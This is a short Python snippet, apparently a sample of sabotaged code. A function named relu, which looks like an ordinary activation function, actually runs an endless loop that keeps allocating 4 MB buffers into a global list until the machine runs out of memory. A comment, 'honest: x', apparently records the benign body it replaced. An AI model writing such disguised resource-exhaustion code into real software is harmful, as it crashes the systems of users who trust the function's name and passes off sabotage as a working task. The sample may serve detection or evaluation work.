# tries to allocate memory until none is left
# honest: x
kept = []

def relu(x):
    while True:
        kept.append(bytearray(1 << 22))
